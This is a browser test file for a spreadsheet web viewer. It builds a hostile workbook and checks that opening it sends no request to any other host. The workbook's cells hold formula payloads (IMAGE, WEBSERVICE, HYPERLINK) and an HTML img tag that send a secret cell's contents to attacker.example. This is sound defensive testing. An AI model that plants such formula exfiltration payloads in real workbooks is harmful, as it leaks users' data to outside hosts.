/** Whatever a workbook holds, opening it sends nothing to any other place. */
import type { Browser } from 'playwright-core';
import { bookParts, packed, PLACES } from '../../scripts/fuzz/book';
import { TEXTS } from '../../scripts/fuzz/texts';
import { rows, text, workbookParts, zip } from '../files/build';
import { Bench, eventually } from './bench';
import { startBrowser } from './browser';
import { type RunningServer, startServer } from './server';

let server: RunningServer;
let browser: Browser;

beforeAll(async () => {
  server = await startServer();
  browser = await startBrowser();
}, 310_000);

afterAll(async () => {
  await browser.close();
  server.stop();
});

const formula = (reference: string, written: string) =>
  `<c r="${reference}" t="str"><f>${written.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</f><v></v></c>`;

const HOSTILE = zip(
  workbookParts([
    rows(
      text('A1', '机密') + formula('B1', 'IMAGE("https://attacker.example/?q="&A1)'),
      formula('A2', '_xlfn.IMAGE("https://attacker.example/?p="&ENCODEURL(A1))'),
      formula('A3', 'WEBSERVICE("https://attacker.example/?w="&A1)') +
        formula('B3', 'HYPERLINK("https://attacker.example/?h="&A1,"x")'),
      text('A4', '&lt;img src=&quot;https://attacker.example/?m&quot;&gt;') +
        formula('B4', 'IMAGE("//attacker.example/?s")') +
        formula('C4', 'IMAGE("http://attacker.example/?i")'),
    ),
  ]),
);

/** Every eighth of the words that are tried on files, each in all places of a form at once. */
const SAMPLED = TEXTS.filter((_, index) => index % 8 === 1).map((words) =>
  packed(bookParts(Object.fromEntries(PLACES.map((place) => [place, words])))),
);

test('no request leaves for another host', async () => {
  const bench = await Bench.open(browser, server.address, { sample: 'clean-example.xlsx' });
  const { host } = new URL(server.address);
  const asked: string[] = [];
  // What the policy of the page stops never comes here.
  await bench.page.context().route('**', async (route) => {
    const url = new URL(route.request().url());
    if (url.host === host || !url.protocol.startsWith('http')) return route.continue();
    asked.push(url.href);
    return route.abort();
  });
  for (const [index, book] of [HOSTILE, ...SAMPLED].entries()) {
    const name = `hostile-${String(index)}.xlsx`;
    await bench.page
      .locator('#file')
      .setInputFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(book) });
    await eventually(async () => {
      expect(await bench.status()).toContain(name);
    });
    // The grid calculates and draws after it has opened.
    await bench.page.waitForTimeout(index === 0 ? 5000 : 1000);
  }
  expect(asked).toEqual([]);
  await bench.close();
}, 120_000);
